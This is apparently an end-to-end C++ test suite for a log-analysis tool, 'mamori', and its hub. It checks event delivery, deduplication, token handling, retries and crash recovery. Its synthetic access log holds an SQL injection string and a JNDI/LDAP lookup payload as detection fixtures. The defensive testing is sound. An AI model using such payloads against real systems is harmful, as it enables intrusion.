// End-to-end tests of `mamori detect --hub` and `mamori select --hub`: a real `mamori hub` process
// on a free local port, set up with `mamori admin`, receives what the commands write; the tests
// read it back through the API. They prove that records arrive and are routed, that sending again
// duplicates nothing, and that a refused token or an absent hub fails the command without touching
// its complete local outputs.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <httplib.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/socket.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdlib>
#include <map>
#include <mutex>
#include <optional>
#include <set>
#include <sstream>
#include <thread>

#include "e2e_support.h"
#include "hub_process.h"

namespace mamori::e2e {
namespace {

const std::string kMamori = MAMORI_BIN;
const std::string kGencap = MAMORI_GENCAP_BIN;
constexpr const char* kOperatorHost = "www.op1.example.jp";
constexpr const char* kOtherHost = "www.unowned.example.com";

class HubE2E : public ::testing::Test {
 protected:
  void SetUp() override {
    makeDir();
    setUpOn("sqlite:" + (*dir_ / "hub.db").string());
  }
  void makeDir() {
    std::string name = ::testing::UnitTest::GetInstance()->current_test_info()->name();
    std::replace(name.begin(), name.end(), '/', '-');  // TEST_P names end in /backend
    dir_.emplace("hub-" + name);
  }
  // Organisations, an analyst and a token made with `mamori admin` on `db`, then the hub on it.
  void setUpOn(const std::string& db) {
    db_ = db;
    ASSERT_EQ(admin("org add --name centre --type centre").exitCode, 0);
    auto op = admin(fmt::format(
        "org add --name op1 --type operator --sector electricity --domain {}", kOperatorHost));
    ASSERT_EQ(op.exitCode, 0) << op.output;
    operatorId_ = trim(op.output);
    auto user = admin("user add --name analyst --org centre --role analyst --clearance 2");
    ASSERT_EQ(user.exitCode, 0) << user.output;
    auto token = admin("token create --user analyst");
    ASSERT_EQ(token.exitCode, 0) << token.output;
    token_ = trim(token.output);
    ASSERT_FALSE(token_.empty());
    hub_.emplace(db_, dir_->path());
    ASSERT_TRUE(hub_->running()) << "the hub did not start:\n" << hub_->log();
  }
  void TearDown() override {
    hub_.reset();  // stops the hub before its directory goes
    dir_.reset();
  }

  CommandResult admin(const std::string& args) const { return hubAdmin(db_, args); }

  // The token goes through the environment, as documented, unless a test passes --token.
  CommandResult mamori(const std::string& args, const std::string& token) const {
    // One signature cache for the whole test binary: compiling it is the slow part of detect.
    static const std::string cache = "MAMORI_CACHE_DIR=" +
                                     quote((std::filesystem::temp_directory_path() /
                                            ("mamori-e2e-hub-cache-" + std::to_string(::getpid())))
                                               .string()) +
                                     " ";
    return run(cache + "MAMORI_HUB_TOKEN=" + quote(token) + " " + kMamori + " " + args);
  }

  // Every event the hub holds, by id (GET /api/v1/events, following next_cursor).
  std::map<std::string, nlohmann::json> hubEvents() const {
    std::map<std::string, nlohmann::json> out;
    httplib::Client client("127.0.0.1", hub_->port());
    const httplib::Headers headers{{"Authorization", "Bearer " + token_}};
    std::string cursor;
    for (int page = 0; page < 100; ++page) {
      httplib::Params params{{"limit", "500"}};
      if (!cursor.empty()) params.emplace("cursor", cursor);
      auto res = client.Get("/api/v1/events", params, headers);
      EXPECT_TRUE(res);
      if (!res) return out;
      EXPECT_EQ(res->status, 200) << res->body;
      const auto j = nlohmann::json::parse(res->body);
      for (const auto& e : j["items"]) out[e["id"].get<std::string>()] = e;
      if (!j["next_cursor"].is_string()) break;
      cursor = j["next_cursor"].get<std::string>();
    }
    return out;
  }

  std::optional<ScratchDir> dir_;
  std::optional<HubProcess> hub_;
  std::string db_;
  std::string operatorId_;
  std::string token_;
};

constexpr const char* kBrowser =
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

// A JSON-lines access log: benign browsing of two sites, SQL injection against both (one answered
// with a large 200, so it may have succeeded) and a JNDI lookup against the operator's site.
std::string attackLog() {
  std::string out;
  int second = 0;
  auto add = [&](const std::string& host, const std::string& client, const std::string& uri,
                 int status, int bytes, const std::string& ua) {
    const nlohmann::json j = {
        {"time", fmt::format("2026-11-26T01:{:02}:{:02}Z", second / 60, second % 60)},
        {"remote_addr", client},
        {"method", "GET"},
        {"uri", uri},
        {"protocol", "HTTP/1.1"},
        {"status", status},
        {"bytes", bytes},
        {"user_agent", ua},
        {"host", host}};
    ++second;
    out += j.dump() + "\n";
  };
  for (int i = 0; i < 30; ++i) {
    add(i % 2 == 0 ? kOperatorHost : kOtherHost, fmt::format("198.51.100.{}", 10 + i % 7),
        i % 3 == 0 ? "/" : "/news/2026/11/outage-notice.html", 200, 2000 + 10 * (i % 3), kBrowser);
  }
  for (const char* host : {kOperatorHost, kOtherHost}) {
    for (int i = 0; i < 4; ++i) {
      add(host, "203.0.113.7",
          fmt::format("/item.php?id={}%27%20union%20select%20null,version()--", i),
          i == 0 ? 200 : 500, i == 0 ? 9000 : 300, kBrowser);
    }
  }
  add(kOperatorHost, "203.0.113.22", "/", 200, 2000, "${jndi:ldap://203.0.113.22:1389/a}");
  return out;
}

TEST_F(HubE2E, DetectSendsEventsRoutedToTheOwnerAndSendingAgainDuplicatesNothing) {
  writeFile(*dir_ / "access.ndjson", attackLog());
  const auto log = quote((*dir_ / "access.ndjson").string());
  const auto out1 = *dir_ / "out1";
  auto r = mamori(
      fmt::format("detect --log {} --out {} --hub {}/ ", log, quote(out1.string()), hub_->url()),
      token_);
  ASSERT_EQ(r.exitCode, 0) << r.output << hub_->log();
  EXPECT_EQ(r.output.find(token_), std::string::npos) << "the token must never be printed";

  const auto local = readNdjson(out1 / "events.ndjson");
  ASSERT_GE(local.size(), 2U) << r.output;
  EXPECT_NE(r.output.find(
                fmt::format("sent {} events, {} new, 0 already there", local.size(), local.size())),
            std::string::npos)
      << r.output;

  const auto stored = hubEvents();
  ASSERT_EQ(stored.size(), local.size());
  bool sawOperator = false;
  bool sawUnowned = false;
  for (const auto& e : local) {
    const auto id = e["id"].get<std::string>();
    ASSERT_TRUE(stored.contains(id)) << id;
    const auto& h = stored.at(id);
    EXPECT_EQ(h["kind"], "detect");
    EXPECT_EQ(h["category"], e["category"]);
    EXPECT_EQ(h["state"], "new");
    EXPECT_EQ(h["record"], e) << "the hub keeps the record as written";
    const std::set<std::string> targets = e["targets"].get<std::set<std::string>>();
    if (targets == std::set<std::string>{kOperatorHost}) {
      EXPECT_EQ(h["target_organisation"], operatorId_) << h.dump();
      sawOperator = true;
    } else if (targets == std::set<std::string>{kOtherHost}) {
      EXPECT_TRUE(h["target_organisation"].is_null()) << h.dump();
      sawUnowned = true;
    }
  }
  EXPECT_TRUE(sawOperator);
  EXPECT_TRUE(sawUnowned);

  // The same log again (a rerun, a retry after a lost answer): same ids, nothing new stored. The
  // URL may name the API root too, and the token may come from --token.
  const auto out2 = *dir_ / "out2";
  r = mamori(fmt::format("detect --log {} --out {} --hub {}/api/v1 --token {}", log,
                         quote(out2.string()), hub_->url(), quote(token_)),
             "");
  ASSERT_EQ(r.exitCode, 0) << r.output;
  EXPECT_NE(r.output.find(
                fmt::format("sent {} events, 0 new, {} already there", local.size(), local.size())),
            std::string::npos)
      << r.output;
  EXPECT_EQ(readFile(out2 / "events.ndjson"), readFile(out1 / "events.ndjson"));
  EXPECT_EQ(hubEvents().size(), local.size());
}

TEST_F(HubE2E, RefusedTokenFailsTheCommandButLeavesCompleteOutputs) {
  writeFile(*dir_ / "access.ndjson", attackLog());
  const auto out = *dir_ / "out";
  const std::string badToken = "mamori_not-a-real-token-0123456789";
  auto r = mamori(
      fmt::format("detect --log {} --out {} --hub {}", quote((*dir_ / "access.ndjson").string()),
                  quote(out.string()), hub_->url()),
      badToken);
  EXPECT_EQ(r.exitCode, 1) << r.output;
  EXPECT_NE(r.output.find(hub_->url()), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("401"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("bad-token"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("outputs are complete in " + out.string()), std::string::npos)
      << r.output;
  EXPECT_EQ(r.output.find(badToken), std::string::npos) << "the token must never be printed";
  // The local result is whole.
  EXPECT_FALSE(readNdjson(out / "events.ndjson").empty());
  EXPECT_TRUE(std::filesystem::exists(out / "summary.json"));
  EXPECT_FALSE(std::filesystem::exists(out / "events.ndjson.partial"));
  EXPECT_TRUE(hubEvents().empty());
}

TEST_F(HubE2E, AbsentHubFailsAfterRetriesNamingTheUrl) {
  writeFile(*dir_ / "access.ndjson", attackLog());
  const int closed = freePort();
  ASSERT_GT(closed, 0);
  const std::string url = fmt::format("http://127.0.0.1:{}", closed);
  const auto out = *dir_ / "out";
  const auto start = std::chrono::steady_clock::now();
  auto r = mamori(fmt::format("detect --log {} --out {} --hub {}",
                              quote((*dir_ / "access.ndjson").string()), quote(out.string()), url),
                  token_);
  const auto elapsed = std::chrono::steady_clock::now() - start;
  EXPECT_EQ(r.exitCode, 1) << r.output;
  EXPECT_NE(r.output.find("hub " + url), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("after 3 attempts"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("outputs are complete in"), std::string::npos) << r.output;
  EXPECT_GE(elapsed, std::chrono::milliseconds(1000)) << "retries back off";
  EXPECT_FALSE(readNdjson(out / "events.ndjson").empty());
}

TEST_F(HubE2E, HubWithoutTokenOrWithABadUrlIsAUsageError) {
  writeFile(*dir_ / "access.ndjson", attackLog());
  const auto log = quote((*dir_ / "access.ndjson").string());
  auto r = run(kMamori + " detect --log " + log + " --out " + quote((*dir_ / "o1").string()) +
               " --hub " + hub_->url());
  EXPECT_EQ(r.exitCode, 2) << r.output;
  EXPECT_NE(r.output.find("--token"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("MAMORI_HUB_TOKEN"), std::string::npos) << r.output;
  EXPECT_FALSE(std::filesystem::exists(*dir_ / "o1")) << "nothing runs after a usage error";

  r = mamori("detect --log " + log + " --out " + quote((*dir_ / "o2").string()) +
                 " --hub ftp://127.0.0.1:1/",
             token_);
  EXPECT_EQ(r.exitCode, 2) << r.output;
  EXPECT_NE(r.output.find("http"), std::string::npos) << r.output;

  r = mamori("detect --log " + log + " --out " + quote((*dir_ / "o3").string()) + " --token x", "");
  EXPECT_EQ(r.exitCode, 2) << r.output;
}

TEST_F(HubE2E, LargeOutputsGoInBatchesAndAllArrive) {
  // 2,500 sources each trying SQL injection on a site of their own: 2,500 events, three requests.
  std::string log;
  for (int i = 0; i < 2500; ++i) {
    log += nlohmann::json{{"time", "2026-11-26T01:00:00Z"},
                          {"remote_addr", fmt::format("203.0.{}.{}", i / 250, i % 250 + 1)},
                          {"method", "GET"},
                          {"uri", "/item.php?id=1%27%20union%20select%20null,version()--"},
                          {"protocol", "HTTP/1.1"},
                          {"status", 200},
                          {"bytes", 9000},
                          {"user_agent", kBrowser},
                          {"host", fmt::format("site{}.example.jp", i)}}
               .dump() +
           "\n";
  }
  writeFile(*dir_ / "access.ndjson", log);
  const auto out = *dir_ / "out";
  auto r = mamori(
      fmt::format("detect --log {} --out {} --hub {}", quote((*dir_ / "access.ndjson").string()),
                  quote(out.string()), hub_->url()),
      token_);
  ASSERT_EQ(r.exitCode, 0) << r.output;
  const auto local = readNdjson(out / "events.ndjson");
  ASSERT_EQ(local.size(), 2500U);
  EXPECT_NE(r.output.find("sent 2500 events, 2500 new, 0 already there"), std::string::npos)
      << r.output;
  const auto stored = hubEvents();
  EXPECT_EQ(stored.size(), local.size());
  for (const auto& e : local) EXPECT_TRUE(stored.contains(e["id"].get<std::string>()));
}

// Not the real hub: a stand-in that is unavailable twice before it takes the batch, to see the
// client retry, and that checks what the client puts on the wire.
TEST(HubClientE2E, UnavailableHubIsRetriedAndTheWireFormatIsNdjsonWithABearerToken) {
  ScratchDir dir("hub-client-retry");
  httplib::Server server;
  int posts = 0;
  std::string contentType;
  std::string authorization;
  size_t lines = 0;
  server.Post("/prefix/api/v1/events", [&](const httplib::Request& req, httplib::Response& res) {
    ++posts;
    if (posts <= 2) {
      res.status = 503;
      res.set_header("Retry-After", "0");
      res.set_content(R"({"error":{"code":"database-unavailable","message":"busy"}})",
                      "application/json");
      return;
    }
    contentType = req.get_header_value("Content-Type");
    authorization = req.get_header_value("Authorization");
    lines = static_cast<size_t>(std::count(req.body.begin(), req.body.end(), '\n'));
    res.set_content(
        nlohmann::json{{"received", lines}, {"accepted", lines}, {"duplicates", 0}}.dump(),
        "application/json");
  });
  const int port = server.bind_to_any_port("127.0.0.1");
  ASSERT_GT(port, 0);
  std::thread serving([&] { server.listen_after_bind(); });
  struct Stop {
    httplib::Server& s;
    std::thread& t;
    ~Stop() {
      s.stop();
      t.join();
    }
  } stop{server, serving};

  writeFile(dir / "access.ndjson", attackLog());
  const auto out = dir / "out";
  const std::string cache = "MAMORI_CACHE_DIR=" +
                            quote((std::filesystem::temp_directory_path() /
                                   ("mamori-e2e-hub-cache-" + std::to_string(::getpid())))
                                      .string()) +
                            " ";
  auto r = run(cache + "MAMORI_HUB_TOKEN=t0ken-for-the-stand-in " + kMamori + " detect --log " +
               quote((dir / "access.ndjson").string()) + " --out " + quote(out.string()) +
               fmt::format(" --hub http://127.0.0.1:{}/prefix", port));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  EXPECT_EQ(posts, 3);
  EXPECT_EQ(contentType, "application/x-ndjson");
  EXPECT_EQ(authorization, "Bearer t0ken-for-the-stand-in");
  EXPECT_EQ(lines, readNdjson(out / "events.ndjson").size());
}

const char* kOrder = R"({
  "id": "order-hub-e2e",
  "purpose": "end-to-end test: sending selected records to the hub",
  "scopes": ["foreign-foreign", "foreign-domestic", "domestic-foreign"],
  "valid_from": "2026-01-01T00:00:00Z",
  "valid_until": "2099-01-01T00:00:00Z",
  "criteria": [
    {"id": "c-ip", "ip": "203.0.113.5"},
    {"id": "c-dom", "domain": "evil.example"},
    {"id": "c-telnet", "port": 23},
    {"id": "c-mirai", "pattern": "MIRAI-BOTNET"}
  ]
})";

TEST_F(HubE2E, SelectSendsItsRecordsAndLedgersTheSending) {
  const auto& d = *dir_;
  ASSERT_EQ(run(kGencap + " --scenario e2e --out " + quote((d / "e2e.pcap").string())).exitCode, 0);
  writeFile(d / "domestic.txt", "192.0.2.0/24\n2001:db8:1::/48\n");
  writeFile(d / "order.json", kOrder);
  ASSERT_EQ(run(kMamori + " keys gen --out " + quote((d / "commission").string())).exitCode, 0);
  ASSERT_EQ(
      run(kMamori + " order sign --key " + quote((d / "commission/signing.key").string()) + " " +
          quote((d / "order.json").string()) + " > " + quote((d / "order.signed.json").string()))
          .exitCode,
      0);
  const auto out = d / "out";
  auto r = mamori("select --order " + quote((d / "order.signed.json").string()) + " --trust " +
                      quote((d / "commission/signing.pub").string()) + " --domestic " +
                      quote((d / "domestic.txt").string()) + " --state " +
                      quote((d / "sensor-state").string()) + " --in " +
                      quote((d / "e2e.pcap").string()) + " --out " + quote(out.string()) +
                      " --hub " + hub_->url(),
                  token_);
  ASSERT_EQ(r.exitCode, 0) << r.output << hub_->log();
  const auto records = readNdjson(out / "selected.ndjson");
  ASSERT_FALSE(records.empty());
  EXPECT_NE(r.output.find(fmt::format("sent {} records, {} new, 0 already there", records.size(),
                                      records.size())),
            std::string::npos)
      << r.output;
  const auto stored = hubEvents();
  ASSERT_EQ(stored.size(), records.size());
  for (const auto& rec : records) {
    const auto id = rec["id"].get<std::string>();
    ASSERT_TRUE(stored.contains(id)) << id;
    EXPECT_EQ(stored.at(id)["kind"], "select");
    EXPECT_EQ(stored.at(id)["record"], rec);
  }
  // The commission sees in the sensor's ledger where the records went.
  auto ledger =
      run(kMamori + " ledger verify --ledger " + quote((d / "sensor-state/ledger").string()) +
          " --trust " + quote((d / "sensor-state/ledger.pub").string()));
  EXPECT_EQ(ledger.exitCode, 0) << ledger.output;
  auto show = run(kMamori + " ledger show --ledger " + quote((d / "sensor-state/ledger").string()));
  EXPECT_NE(show.output.find("hub-send"), std::string::npos) << show.output;
  EXPECT_NE(show.output.find(hub_->url()), std::string::npos) << show.output;
}

// The crash test, on SQLite and on PostgreSQL: `kill -9` while a client is sending batches. After a
// restart every batch the hub acknowledged is there, nothing is there twice, the batch that was
// cut off can be sent again, and the audit ledger verifies (the hub repairs the tail a kill inside
// an append leaves, audited) with every ingest batch audited exactly once.
//
// PostgreSQL runs when MAMORI_TEST_POSTGRES_URL names a server (scripts/pg-test-server.sh), in a
// schema of its own made with psql; it is skipped otherwise, or fails with
// MAMORI_TEST_REQUIRE_POSTGRES=1.
class HubCrashE2E : public HubE2E, public ::testing::WithParamInterface<std::string> {
 protected:
  void SetUp() override {
    makeDir();
    if (GetParam() == "sqlite") {
      setUpOn("sqlite:" + (*dir_ / "hub.db").string());
      return;
    }
    const char* base = std::getenv("MAMORI_TEST_POSTGRES_URL");  // NOLINT(concurrency-mt-unsafe)
    if (base == nullptr || *base == '\0') {
      const char* require =
          std::getenv("MAMORI_TEST_REQUIRE_POSTGRES");  // NOLINT(concurrency-mt-unsafe)
      if (require != nullptr && std::string(require) == "1") {
        FAIL() << "MAMORI_TEST_POSTGRES_URL is not set but MAMORI_TEST_REQUIRE_POSTGRES=1";
      }
      GTEST_SKIP() << "MAMORI_TEST_POSTGRES_URL is not set (scripts/pg-test-server.sh start DIR)";
    }
    baseUrl_ = base;
    schema_ = fmt::format("e2e_{}_{}", ::getpid(),
                          std::chrono::steady_clock::now().time_since_epoch().count());
    auto made = run("psql " + quote(baseUrl_) + " -qc " + quote("CREATE SCHEMA " + schema_));
    ASSERT_EQ(made.exitCode, 0) << made.output;
    setUpOn(baseUrl_ + (baseUrl_.find('?') == std::string::npos ? "?" : "&") +
            "options=-csearch_path%3D" + schema_);
  }
  void TearDown() override {
    HubE2E::TearDown();
    if (!schema_.empty()) {
      (void)run("psql " + quote(baseUrl_) + " -qc " + quote("DROP SCHEMA " + schema_ + " CASCADE"));
    }
  }
  std::string baseUrl_;
  std::string schema_;
};

TEST_P(HubCrashE2E, KillNineDuringIngestLosesNothingAcknowledgedAndDuplicatesNothing) {
  std::mutex mutex;
  std::vector<std::string> acknowledged;
  std::atomic<int> batches{0};
  std::string lastBatch;
  const int port = hub_->port();
  std::thread sender([&] {
    httplib::Client client("127.0.0.1", port);
    client.set_connection_timeout(2);
    client.set_read_timeout(5);
    const httplib::Headers headers{{"Authorization", "Bearer " + token_}};
    for (int b = 0; b < 10'000; ++b) {
      std::string body;
      std::vector<std::string> ids;
      for (int i = 0; i < 200; ++i) {
        ids.push_back(fmt::format("crash-{}-{}", b, i));
        body += nlohmann::json{{"id", ids.back()},
                               {"category", "sqli"},
                               {"pattern", "single"},
                               {"severity", "high"},
                               {"targets", {kOperatorHost}}}
                    .dump() +
                "\n";
      }
      {
        std::lock_guard lock(mutex);
        lastBatch = body;
      }
      auto res = client.Post("/api/v1/events", headers, body, "application/x-ndjson");
      if (!res) return;  // the hub is gone
      if (res->status != 200) return;
      std::lock_guard lock(mutex);
      acknowledged.insert(acknowledged.end(), ids.begin(), ids.end());
      ++batches;
    }
  });
  for (int i = 0; i < 400 && batches < 5; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(25));
  hub_->crash();
  sender.join();
  ASSERT_GE(batches.load(), 5) << "the hub acknowledged too little before the kill:\n"
                               << hub_->log();

  hub_.emplace(db_, dir_->path());
  ASSERT_TRUE(hub_->running()) << "the hub did not restart after kill -9:\n" << hub_->log();
  auto events = hubEvents();
  for (const auto& id : acknowledged) EXPECT_TRUE(events.contains(id)) << id << " was acknowledged";
  // Sending the cut-off batch again is harmless: whatever of it was stored is a duplicate.
  {
    httplib::Client client("127.0.0.1", hub_->port());
    auto res = client.Post("/api/v1/events", {{"Authorization", "Bearer " + token_}}, lastBatch,
                           "application/x-ndjson");
    ASSERT_TRUE(res);
    ASSERT_EQ(res->status, 200) << res->body;
    const auto j = nlohmann::json::parse(res->body);
    EXPECT_EQ(j["accepted"].get<int>() + j["duplicates"].get<int>(), 200);
  }
  events = hubEvents();
  EXPECT_EQ(events.size(), acknowledged.size() + 200);
  hub_.reset();  // releases the audit ledger
  auto verify =
      run(kMamori + " ledger verify --ledger " +
          quote((dir_->path() / "hub-state" / "hub" / "audit-ledger").string()) + " --trust " +
          quote((dir_->path() / "hub-state" / "hub" / "audit.pub").string()));
  EXPECT_EQ(verify.exitCode, 0) << verify.output;
  // Every ingest batch the hub stored is audited exactly once: its entry was committed with the
  // batch, and a kill between the ledger append and the outbox delete does not append it again.
  auto show = run(kMamori + " ledger show --json --ledger " +
                  quote((dir_->path() / "hub-state" / "hub" / "audit-ledger").string()));
  ASSERT_EQ(show.exitCode, 0) << show.output;
  std::set<std::string> auditIds;
  int batchEntries = 0;
  std::istringstream lines(show.output);
  for (std::string line; std::getline(lines, line);) {
    const auto e = nlohmann::json::parse(line, nullptr, false);
    if (!e.is_object() || e.value("type", "") == "ledger-repair") continue;
    EXPECT_TRUE(auditIds.insert(e.value("audit_id", "")).second) << "twice in the ledger: " << line;
    if (e.value("kind", "") == "event" && e.value("action", "") == "create") ++batchEntries;
  }
  // Every acknowledged batch and the resent one; perhaps the cut-off one too, if the kill came
  // after its commit and before its answer.
  EXPECT_GE(batchEntries, batches.load() + 1);
  EXPECT_LE(batchEntries, batches.load() + 2);
}

INSTANTIATE_TEST_SUITE_P(, HubCrashE2E, ::testing::Values("sqlite", "postgresql"),
                         [](const ::testing::TestParamInfo<std::string>& info) {
                           return info.param;
                         });

}  // namespace
}  // namespace mamori::e2e
